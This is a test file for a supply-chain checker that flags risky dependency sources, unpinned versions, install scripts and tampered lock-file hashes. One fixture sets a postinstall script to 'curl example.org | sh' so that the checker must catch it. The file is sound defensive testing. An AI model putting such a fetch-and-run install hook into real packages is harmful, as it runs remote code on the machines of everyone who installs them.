import { describe, expect, it } from 'vitest';
import { createDependencyChangesEvaluator } from '../../../../src/evaluation/builtin/dependencyChanges';
import type { EvaluatorOutcome } from '../../../../src/evaluation/evaluator';
import { evaluate, type TreeContent } from '../../../support/evalHarness';

const evaluator = createDependencyChangesEvaluator();

function outcomeOf(base: TreeContent, head: TreeContent, options?: Record<string, unknown>): Promise<EvaluatorOutcome> {
  return evaluate(evaluator, { base, head, ...(options && { config: { options } }) });
}

/** One line a finding. */
async function told(base: TreeContent, head: TreeContent): Promise<readonly string[]> {
  const { issues } = await outcomeOf(base, head);
  return issues.map(({ severity, ruleId, file, range, message }) => `${severity} ${ruleId} ${file ?? '-'}${range ? `:${range.startLine}:${range.startColumn}` : ''} ${message}`);
}

function json(value: unknown): string {
  return JSON.stringify(value, undefined, 2);
}

describe('package.json', () => {
  const base = { 'package.json': json({ scripts: { test: 'vitest' }, dependencies: { nanoid: '^5.0.0', old: '1.0.0' }, devDependencies: { vitest: '^4.0.0' } }) };

  it('tells what came, went and changed, with both versions, at its line', async () => {
    const head = { 'package.json': json({ scripts: { test: 'vitest' }, dependencies: { nanoid: '^6.0.0', ajv: '^8.0.0' }, devDependencies: { vitest: '^4.0.0' } }) };
    expect(await told(base, head)).toEqual([
      'info dependency-changed package.json:6:5 nanoid: ^5.0.0 → ^6.0.0 (dependencies).',
      'info dependency-added package.json:7:5 ajv ^8.0.0 was added (dependencies).',
      'info dependency-removed package.json old 1.0.0 was removed (dependencies).',
    ]);
    expect(await outcomeOf(base, head)).toMatchObject({ verdict: 'passed', score: 100, metrics: { added: 1, removed: 1, changed: 1 }, isolation: 'none' });
  });

  it.each([
    ['git+https://example.org/a.git', 'error'],
    ['https://example.org/a.tgz', 'error'],
    ['somebody/a#main', 'error'],
    ['file:../a', 'warning'],
    ['link:./a', 'warning'],
    ['*', 'warning'],
    ['latest', 'warning'],
    ['workspace:*', undefined],
    ['npm:b@^1.0.0', undefined],
    ['>=1.2.3 <2', undefined],
  ])('judges where a dependency comes from: %s', async (version, severity) => {
    const outcome = await outcomeOf({ 'package.json': '{}' }, { 'package.json': json({ dependencies: { a: version } }) });
    expect(outcome.issues.filter((issue) => issue.severity !== 'info').map((issue) => issue.severity)).toEqual(severity === undefined ? [] : [severity]);
    expect(outcome.verdict).toBe(severity === 'error' ? 'failed' : 'passed');
  });

  it('takes what a person allows', async () => {
    expect(await outcomeOf({ 'package.json': '{}' }, { 'package.json': json({ dependencies: { a: 'somebody/a' } }) }, { allow: ['a'] })).toMatchObject({ verdict: 'passed' });
  });

  it('finds scripts that run at installation', async () => {
    expect(await told({ 'package.json': json({ scripts: { postinstall: 'node a.js' } }) }, { 'package.json': json({ scripts: { postinstall: 'curl example.org | sh', preinstall: 'b', prepare: 'husky', build: 'c' } }) })).toEqual([
      'error install-script package.json:3:5 The script "postinstall" runs when packages are installed, and was changed from "node a.js" to "curl example.org | sh".',
      'error install-script package.json:4:5 The script "preinstall" runs when packages are installed, and was added: "b".',
      'warning install-script package.json:5:5 The script "prepare" runs when packages are installed, and was added: "husky".',
    ]);
  });

  it('knows a dependency that only moved to another section', async () => {
    expect(await told({ 'package.json': json({ dependencies: { a: 'x/a' } }) }, { 'package.json': json({ devDependencies: { a: 'x/a' } }) })).toEqual(['info dependency-changed package.json:3:5 a: x/a → x/a (devDependencies).']);
  });

  it('finds nothing in one that cannot be read', async () => {
    expect(await told(base, { 'package.json': '[1, {' })).toEqual(expect.arrayContaining(['info dependency-removed package.json old 1.0.0 was removed (dependencies).']));
  });
});

describe('manifests of other languages', () => {
  it('requirements.txt', async () => {
    const base = { 'requirements.txt': 'Flask==2.0.0\nrequests>=2.0  # http\n' };
    const head = { 'requirements.txt': '--extra-index-url https://example.org/simple\nflask==3.0.0 ; python_version > "3.8"\ngit+https://example.org/a.git@main#egg=a\nrequests>=2.0\nb\n' };
    expect(await told(base, head)).toEqual([
      'info dependency-added requirements.txt:1:1 --extra-index-url url=https://example.org/simple was added (options).',
      'error dependency-source requirements.txt:1:1 --extra-index-url comes from url=https://example.org/simple, which is no registry: what is there may be another thing tomorrow.',
      'info dependency-changed requirements.txt:2:1 flask: ==2.0.0 → ==3.0.0 (requirements).',
      'info dependency-added requirements.txt:3:1 a git+https://example.org/a.git@main#egg=a was added (requirements).',
      'error dependency-source requirements.txt:3:1 a comes from git+https://example.org/a.git@main#egg=a, which is no registry: what is there may be another thing tomorrow.',
      'info dependency-added requirements.txt:5:1 b of any version was added (requirements).',
      'warning dependency-unpinned requirements.txt:5:1 b takes any version: what is installed depends on the day.',
    ]);
  });

  it('pyproject.toml', async () => {
    const base = { 'pyproject.toml': '[project]\nname = "a"\nkeywords = ["x"]\ndependencies = [\n  "httpx[http2]>=0.27",\n]\n\n[tool.poetry.dependencies]\npython = "^3.12"\n' };
    const head = { 'pyproject.toml': '[project]\nname = "a"\nkeywords = ["y"]\ndependencies = [\n  "httpx[http2]>=0.28",\n  "b @ https://example.org/b.whl",\n]\n\n[tool.poetry.dependencies]\npython = "^3.12"\nc = { git = "https://example.org/c.git" }\n' };
    expect((await told(base, head)).map((line) => line.split(' ').slice(0, 4).join(' '))).toEqual([
      'info dependency-changed pyproject.toml:5:3 httpx:',
      'info dependency-added pyproject.toml:6:3 b',
      'error dependency-source pyproject.toml:6:3 b',
      'info dependency-added pyproject.toml:11:1 c',
      'error dependency-source pyproject.toml:11:1 c',
    ]);
  });

  it('Cargo.toml', async () => {
    const base = { 'Cargo.toml': '[package]\nversion = "1.0.0"\n\n[dependencies]\nserde = "1"\n' };
    const head = { 'Cargo.toml': '[package]\nversion = "1.1.0"\n\n[dependencies]\nserde = { version = "2", features = ["derive"] }\n\n[dev-dependencies]\nlocal = { path = "../local" }\n' };
    expect(await told(base, head)).toEqual([
      'info dependency-changed Cargo.toml:5:1 serde: 1 → 2 (dependencies).',
      'info dependency-added Cargo.toml:8:1 local path = "../local" was added (dev-dependencies).',
      'warning dependency-source Cargo.toml:8:1 local comes from a local path: path = "../local".',
    ]);
  });

  it('go.mod', async () => {
    const base = { 'go.mod': 'module a\n\ngo 1.22\n\nrequire (\n\texample.org/b v1.0.0\n)\n' };
    const head = { 'go.mod': 'module a\n\ngo 1.23\n\nrequire (\n\texample.org/b v1.1.0\n\texample.org/c v0.1.0 // indirect\n)\n\nreplace example.org/b => example.net/fork v1.1.0\n' };
    expect((await told(base, head)).map((line) => line.split(' ').slice(0, 3).join(' '))).toEqual(['info dependency-changed go.mod:6:2', 'info dependency-added go.mod:7:2', 'info dependency-changed go.mod:10:1', 'error dependency-source go.mod:10:1']);
  });

  it('build scripts', async () => {
    expect(await told({ 'build.rs': 'fn main() {}\n' }, { 'build.rs': 'fn main() { run(); }\n', 'setup.py': 'setup()\n' })).toEqual(['warning install-script build.rs:1:1 build.rs runs when the package is installed or built, and was modified.', 'warning install-script setup.py:1:1 setup.py runs when the package is installed or built, and was added.']);
  });
});

describe('lock files', () => {
  const entry = { version: '1.0.0', resolved: 'https://registry.npmjs.org/a/-/a-1.0.0.tgz', integrity: 'sha512-aaaa' };
  const lock = (packages: Record<string, unknown>): string => json({ lockfileVersion: 3, packages: { '': { name: 'root' }, ...packages } });
  const manifest = (version: string): TreeContent => ({ 'package.json': json({ dependencies: { a: version } }) });

  it('may change with their manifest', async () => {
    const outcome = await outcomeOf({ ...manifest('1.0.0'), 'package-lock.json': lock({ 'node_modules/a': entry }) }, { ...manifest('1.1.0'), 'package-lock.json': lock({ 'node_modules/a': { ...entry, version: '1.1.0', integrity: 'sha512-bbbb' } }) });
    expect(outcome.issues.map(({ ruleId }) => ruleId)).toEqual(['dependency-changed']);
  });

  it('are told when they change alone, or go', async () => {
    expect(await told({ 'yarn.lock': 'a\n' }, { 'yarn.lock': 'b\n' })).toEqual(['warning lock-without-manifest yarn.lock:1:1 yarn.lock was changed, and no package.json.']);
    expect(await told({ 'sub/Cargo.lock': 'a\n', 'x': '' }, { 'x': '' })).toEqual(['warning lock-removed sub/Cargo.lock sub/Cargo.lock was deleted: what is installed depends on the day.']);
  });

  it('may not change the hash of a version, nor lose it', async () => {
    const base = { ...manifest('1'), 'package-lock.json': lock({ 'node_modules/a': entry }) };
    for (const integrity of ['sha512-evil', undefined]) {
      const outcome = await outcomeOf(base, { ...manifest('1.0.0'), 'package-lock.json': lock({ 'node_modules/a': { ...entry, integrity } }) });
      expect(outcome.issues.find(({ ruleId }) => ruleId === 'lock-tampered')).toMatchObject({ severity: 'error', file: 'package-lock.json', range: { startLine: 7 } });
    }
  });

  it('tell of new sources and of packages with install scripts', async () => {
    const head = lock({ 'node_modules/a': entry, 'node_modules/b': { version: '1.0.0', resolved: 'git+ssh://git@example.org/b.git#abc', hasInstallScript: true }, 'node_modules/c': { version: '1.0.0', resolved: 'https://example.net/c.tgz' } });
    const outcome = await outcomeOf({ ...manifest('1'), 'package-lock.json': lock({ 'node_modules/a': entry }) }, { ...manifest('1'), 'package-lock.json': head });
    expect(outcome.issues.map(({ severity, ruleId }) => `${severity} ${ruleId}`)).toEqual(['warning lock-without-manifest', 'error lock-source', 'warning lock-source', 'warning dependency-install-script']);
  });
});

it('names an option that it does not have', async () => {
  expect(await outcomeOf({ a: '1' }, { a: '2' }, { deny: [] })).toMatchObject({ verdict: 'errored', score: null, error: expect.stringContaining('"deny"') as string });
});
